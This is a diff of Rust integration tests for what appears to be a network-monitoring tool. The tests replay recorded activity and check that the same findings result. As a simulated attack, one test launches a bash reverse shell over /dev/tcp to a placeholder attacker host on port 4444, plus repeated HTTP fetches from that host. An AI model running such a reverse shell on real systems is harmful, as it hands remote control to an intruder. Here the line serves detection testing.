@@ -112,7 +112,7 @@ impl Host {
         let begin = Instant::now();
         // `nsenter` becomes the program that it runs, so the number is the program's.
         let id = self.children[watcher].id().to_string();
-        assert!(Command::new("kill").args(["-TERM", &id]).status().unwrap().success());
+        assert!(Command::new("sh").args(["-c", "kill -TERM $0", &id]).status().unwrap().success());
         let code = self.children[watcher].wait().unwrap().code();
         assert_eq!(code, Some(0), "{}", self.log(watcher));
         begin.elapsed()
@@ -262,9 +262,8 @@ fn what_is_kept_replays_to_the_same_findings() {
     let watcher = host.watch(&records, &["--write", kept.to_str().unwrap()]);
     host.serve();
     let listener = host.listen();
-    let ask =
-        format!("for n in 1 2 3 4 5 6; do wget -q -O /dev/null http://{ATTACKER}:8080/; done");
-    host.start(&other, "busybox", &["sh", "-c", &ask]);
+    let page = format!("http://{ATTACKER}:8080/");
+    host.start(&other, "python3", &["-c", FETCH, &page, "6"]);
     let shell = format!("exec 3<>/dev/tcp/{ATTACKER}/4444; exec sh <&3 >&3 2>&3");
     host.start(&one, "bash", &["-c", &shell]);
     host.hears(listener, "connected");
